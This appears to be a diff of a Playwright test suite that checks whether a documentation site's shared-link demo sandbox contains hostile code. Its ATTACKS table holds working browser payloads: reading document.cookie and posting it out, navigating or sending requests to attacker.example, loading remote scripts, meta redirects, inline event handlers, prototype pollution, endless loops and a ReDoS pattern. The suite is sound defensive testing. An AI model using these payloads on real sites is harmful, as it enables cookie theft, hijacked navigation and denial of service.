@@ -5,12 +5,12 @@ import { withIsolation } from '../support/isolatedBrowser';
 import { sharedHash } from '../support/sharedDemo';
 import { waitForHydration } from '../support/site';
 
-/** Browsers add an entry to the history for what a policy refuses; a reader goes back past it. */
-const FORM_IN_SHADOW = 'sends a form from a shadow tree';
+/** Browsers add a history entry for what a policy blocks; readers can go back past it. */
+const FORM_IN_SHADOW = 'submits a form from a shadow tree';
 
 /**
- * A shared link can contain anyone's code. Each row is one attempt to get out of the demo's document, as an
- * effect and at a click; whatever it reaches shows in the page or in what the page asks for.
+ * A shared link can contain anyone's code. Each row is an attempt to escape the demo's document, in
+ * an effect and on a click; whatever it reaches shows in the page or in its requests.
  */
 const ATTACKS: Readonly<Record<string, string>> = {
   'reads cookies': "parent.postMessage('attacked ' + document.cookie, '*')",
@@ -21,10 +21,10 @@ const ATTACKS: Readonly<Record<string, string>> = {
     'localStorage.setItem("attacked", "1"); sessionStorage.setItem("attacked", "1")',
   'opens a database': 'indexedDB.open("attacked")',
   'opens a cache': 'caches.open("attacked")',
-  'moves the page': 'parent.location.href = "https://attacker.example/"',
-  'moves the top': 'top.location.replace("https://attacker.example/")',
-  'moves the page by hash': 'parent.location.hash = "attacked"',
-  'opens a link over the page':
+  'navigates the page': 'parent.location.href = "https://attacker.example/"',
+  'navigates the top window': 'top.location.replace("https://attacker.example/")',
+  'changes the page’s hash': 'parent.location.hash = "attacked"',
+  'opens a link in the top window':
     'const a = document.createElement("a"); a.href = "https://attacker.example/"; a.target = "_top"; document.body.append(a); a.click()',
   'opens a window': 'window.open("https://attacker.example/")',
   'shows dialogs': 'alert("attacked"); confirm("attacked"); prompt("attacked")',
@@ -32,62 +32,62 @@ const ATTACKS: Readonly<Record<string, string>> = {
   'registers a worker for the site': 'navigator.serviceWorker.register("/toolpad/sw.js")',
   'starts a worker': 'new Worker("data:text/javascript,0")',
   'starts a shared worker': 'new SharedWorker("data:text/javascript,0")',
-  'fetches from elsewhere': 'fetch("https://attacker.example/")',
+  'fetches from another site': 'fetch("https://attacker.example/")',
   'fetches from the site': 'fetch("/toolpad/")',
-  'sends by XMLHttpRequest':
+  'sends an XMLHttpRequest':
     'const x = new XMLHttpRequest(); x.open("GET", "https://attacker.example/"); x.send()',
   'sends a beacon': 'navigator.sendBeacon("https://attacker.example/", "x")',
   'opens a socket': 'new WebSocket("wss://attacker.example/")',
-  'sends by a picture': 'new Image().src = "https://attacker.example/x.png"',
-  'sends by a style':
+  'sends an image request': 'new Image().src = "https://attacker.example/x.png"',
+  'sends a style sheet request':
     'const s = document.createElement("style"); s.textContent = "@import \'https://attacker.example/x.css\'"; document.head.append(s)',
-  'sends a form':
+  'submits a form':
     'const f = document.createElement("form"); f.action = "https://attacker.example/"; document.body.append(f); f.submit()',
   'loads a script':
     'const s = document.createElement("script"); s.src = "https://attacker.example/x.js"; document.head.append(s)',
   'imports a module': 'new Function("return import(\'https://attacker.example/x.js\')")()',
-  'runs a string': 'setTimeout("parent.postMessage(\'attacked\', \'*\')"); eval("1")',
-  'refreshes by markup':
+  'evaluates strings': 'setTimeout("parent.postMessage(\'attacked\', \'*\')"); eval("1")',
+  'redirects with a meta element':
     'document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\'0;url=https://attacker.example/\'>")',
-  'sets a base':
+  'sets a base URL':
     'const b = document.createElement("base"); b.href = "https://attacker.example/"; document.head.append(b)',
   'frames another site':
     'const i = document.createElement("iframe"); i.src = "https://attacker.example/"; document.body.append(i)',
   'frames the site':
     'const i = document.createElement("iframe"); i.src = "/toolpad/"; document.body.append(i)',
-  'reads the clipboard':
-    'navigator.clipboard.readText(); navigator.clipboard.writeText("attacked")',
-  'fills the screen':
+  'uses the clipboard': 'navigator.clipboard.readText(); navigator.clipboard.writeText("attacked")',
+  'requests full screen and pointer lock':
     'document.documentElement.requestFullscreen(); document.body.requestPointerLock()',
-  downloads:
+  'downloads a file':
     'const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x"; document.body.append(a); a.click()',
   'fills the history':
     'for (let i = 0; i < 50; i++) history.pushState({}, "", "?" + i); history.back()',
-  'goes back by a window of its own':
+  'goes back from its own iframe':
     'const i = document.createElement("iframe"); document.body.append(i); i.contentWindow.history.back()',
-  'makes code in a window of its own':
+  'evaluates code in its own iframe':
     'const i = document.createElement("iframe"); document.body.append(i); i.contentWindow.parent.parent.postMessage("attacked " + i.contentWindow.eval("parent.parent.document.cookie"), "*")',
-  'makes the policy for code anew in a window of its own':
+  'recreates the script policy in its own iframe':
     'const i = document.createElement("iframe"); document.body.append(i); const w = i.contentWindow; w.trustedTypes.createPolicy("demo", { createScript: (s) => s }); parent.postMessage("attacked by a policy", "*")',
-  'runs the document’s own script in a frame of its own': `const i = document.createElement("iframe"); i.srcdoc = ${JSON.stringify(`<script>${SANDBOX_SCRIPT}</script>`)}; i.onload = () => i.contentWindow.postMessage("parent.parent.postMessage('attacked by a frame', '*')", "*", [new MessageChannel().port1]); document.body.append(i)`,
-  'runs an event handler in markup':
+  'runs the sandbox script in its own iframe': `const i = document.createElement("iframe"); i.srcdoc = ${JSON.stringify(`<script>${SANDBOX_SCRIPT}</script>`)}; i.onload = () => i.contentWindow.postMessage("parent.parent.postMessage('attacked by a frame', '*')", "*", [new MessageChannel().port1]); document.body.append(i)`,
+  'runs an inline event handler':
     'document.body.insertAdjacentHTML("beforeend", "<details open ontoggle=\\"parent.postMessage(\'attacked\', \'*\')\\">x</details>")',
   [FORM_IN_SHADOW]:
     'const h = document.createElement("div"); document.body.append(h); h.attachShadow({ mode: "open" }).innerHTML = "<form action=https://attacker.example/><button>x</button></form>"; h.shadowRoot.querySelector("form").requestSubmit()',
   'forges messages':
     'parent.postMessage({ type: "problem", run: 1, problem: { file: null, line: null, text: "forged" } }, "*")',
-  'floods with messages': 'for (let i = 0; i < 5000; i++) parent.postMessage("flood", "*")',
+  'floods the page with messages':
+    'for (let i = 0; i < 5000; i++) parent.postMessage("flood", "*")',
   'pollutes prototypes': 'Object.prototype.attacked = 1; Array.prototype.map = null',
-  'loops for ever': 'for (;;) {}',
+  'loops forever': 'for (;;) {}',
   'loops in promises': '(async () => { for (;;) await 0 })()',
-  'recurs for ever': 'const f = () => { try { f() } finally { f() } }; f()',
+  'recurses forever': 'const f = () => { try { f() } finally { f() } }; f()',
   'loops in a timer': 'setInterval(() => { for (;;) {} })',
-  'loops where errors are caught': 'for (;;) try { for (;;) {} } catch {}',
+  'loops inside try and catch': 'for (;;) try { for (;;) {} } catch {}',
 };
 
 const PAGE = '/toolpad/core/react-use-session/';
 
-/** The hash of a link to a demo that attacks. */
+/** The hash of a link to an attacking demo. */
 function attackingHash(attack: string): string {
   const source = [
     "import * as React from 'react';",
@@ -112,7 +112,7 @@ async function countEntries(page: Page): Promise<number> {
   return entries.length;
 }
 
-/** What the site has that an attack would change. */
+/** Everything on the site that an attack could change. */
 async function readSite(page: Page) {
   const site = await page.evaluate(async () => {
     const databases = await indexedDB.databases();
@@ -123,59 +123,59 @@ async function readSite(page: Page) {
       cookie: document.cookie,
       stored: [localStorage.getItem('attacked'), sessionStorage.getItem('attacked')],
       databases: databases.map(({ name }) => name),
-      isCacheThere: await caches.has('attacked'),
+      hasCache: await caches.has('attacked'),
       workers: (await navigator.serviceWorker.getRegistrations()).length,
       isPolluted: 'attacked' in {} || typeof [].map !== 'function',
-      taken: document.fullscreenElement ?? document.pointerLockElement,
-      heard: Reflect.get(window, 'heard') as readonly unknown[],
+      captured: document.fullscreenElement ?? document.pointerLockElement,
+      received: Reflect.get(window, 'received') as readonly unknown[],
       hasOrigin: origin !== 'null',
     };
   });
   return { ...site, entries: await countEntries(page) };
 }
 
-/** One page for all attacks of a worker: each link is followed from the one before. */
+/** One page for all attacks of a Playwright worker: each link follows the one before. */
 let context: BrowserContext;
 let page: Page;
-const surprises: string[] = [];
+const escapes: string[] = [];
 
 test.beforeAll(async ({ browser }) => {
   context = await browser.newContext({ viewport: { width: 1000, height: 800 } });
-  // Reached by what the policy lets through, unlike `request`.
+  // Only sees requests that the policy allows, unlike `request`.
   await context.route(/attacker\.example/, (route) => {
-    surprises.push(route.request().url());
+    escapes.push(route.request().url());
     return route.abort();
   });
   await context.addInitScript(() => {
     if (window.top === window) {
-      const heard: unknown[] = [];
-      Object.assign(window, { heard });
+      const received: unknown[] = [];
+      Object.assign(window, { received });
       window.addEventListener('message', ({ data }) => {
         if (String(data).startsWith('attacked')) {
-          heard.push(data);
+          received.push(data);
         }
       });
-      window.addEventListener('beforeprint', () => heard.push('print'));
+      window.addEventListener('beforeprint', () => received.push('print'));
     }
   });
   page = await context.newPage();
   page.on('dialog', (dialog) => {
-    surprises.push(dialog.type());
+    escapes.push(dialog.type());
     void dialog.dismiss();
   });
-  page.on('download', () => surprises.push('download'));
-  page.on('worker', () => surprises.push('worker'));
-  page.on('websocket', () => surprises.push('socket'));
-  context.on('page', () => surprises.push('window'));
+  page.on('download', () => escapes.push('download'));
+  page.on('worker', () => escapes.push('worker'));
+  page.on('websocket', () => escapes.push('socket'));
+  context.on('page', () => escapes.push('window'));
   context.on('request', (request) => {
     const isFromDemo = request.frame().url().endsWith(SANDBOX_ADDRESS);
     const isSandbox = request.isNavigationRequest() && request.url().endsWith(SANDBOX_ADDRESS);
     const isToSite = new URL(request.url()).hostname === '127.0.0.1';
     if (isFromDemo && isToSite && !isSandbox) {
-      surprises.push(request.url());
+      escapes.push(request.url());
     }
   });
-  // Something to go back to.
+  // A history entry to go back to.
   await page.goto('/toolpad/');
   await page.goto(PAGE);
   await waitForHydration(page);
@@ -188,19 +188,19 @@ test.afterAll(async () => {
 test.use({ attacked: true });
 
 for (const [name, attack] of Object.entries(ATTACKS)) {
-  test(`a shared link that ${name} reaches nothing of the site`, async ({ baseURL }) => {
+  test(`a shared link that ${name} does not affect the site`, async ({ baseURL }) => {
     const demo = page.locator('figure[id="SessionGreeting.tsx"]');
     const problem = demo.locator('.demo-problem p');
     const shown = demo.locator('tp-demo[data-edited]');
     await page.goto(`${baseURL}${PAGE}${attackingHash(attack)}`);
     await expect(page).toHaveURL(/#SessionGreeting\.tsx$/);
     await expect(demo.locator('.cm-content')).toContainText(attack.slice(0, 10));
-    // The original, until the reader asks.
+    // The original demo, until the reader runs the link's.
     await expect(demo.locator('iframe:not(.demo-sandbox)')).toBeVisible();
     const before = await readSite(page);
-    surprises.length = 0;
+    escapes.length = 0;
     await demo.getByRole('button', { name: 'Run it' }).click();
-    // An endless one is told; the others show, and get a click, which browsers allow more after.
+    // Endless code is reported. Other code renders and gets a click: browsers then allow more.
     await expect(problem.or(shown)).not.toHaveCount(0);
     if ((await problem.count()) === 0) {
       await demo.locator('.demo-sandbox').click();
@@ -215,25 +215,25 @@ for (const [name, attack] of Object.entries(ATTACKS)) {
     expect({ ...after, ...(name === FORM_IN_SHADOW && { entries: before.entries }) }).toEqual(
       before,
     );
-    expect(after.heard).toEqual([]);
+    expect(after.received).toEqual([]);
     await expect(problem.filter({ hasText: 'forged' })).toHaveCount(0);
-    expect(surprises).toEqual([]);
+    expect(escapes).toEqual([]);
   });
 }
 
-test('a demo that is stuck where nothing can stop it leaves the page alone', async ({
+test('a demo that hangs where no guard can stop it does not block the page', async ({
   baseURL,
   launchOptions,
   playwright,
 }) => {
-  await withIsolation({ launchOptions, playwright }, async (stuck) => {
+  await withIsolation({ launchOptions, playwright }, async (frozen) => {
     const hash = attackingHash('/^(a+)+$/.test("a".repeat(60) + "b")');
-    await stuck.goto(`${baseURL}${PAGE}${hash}`);
-    await stuck.getByRole('button', { name: 'Run it' }).click();
-    await expect(stuck.locator('.demo-sandbox')).toBeAttached();
-    await stuck.mouse.wheel(0, 300);
-    await expect.poll(() => stuck.evaluate(() => window.scrollY)).toBeGreaterThan(0);
-    await expect(stuck.locator('.demo-problem p')).toContainText('no longer answered');
-    await expect(stuck.locator('.demo-sandbox')).toHaveCount(0);
+    await frozen.goto(`${baseURL}${PAGE}${hash}`);
+    await frozen.getByRole('button', { name: 'Run it' }).click();
+    await expect(frozen.locator('.demo-sandbox')).toBeAttached();
+    await frozen.mouse.wheel(0, 300);
+    await expect.poll(() => frozen.evaluate(() => window.scrollY)).toBeGreaterThan(0);
+    await expect(frozen.locator('.demo-problem p')).toContainText('no longer answered');
+    await expect(frozen.locator('.demo-sandbox')).toHaveCount(0);
   });
 });
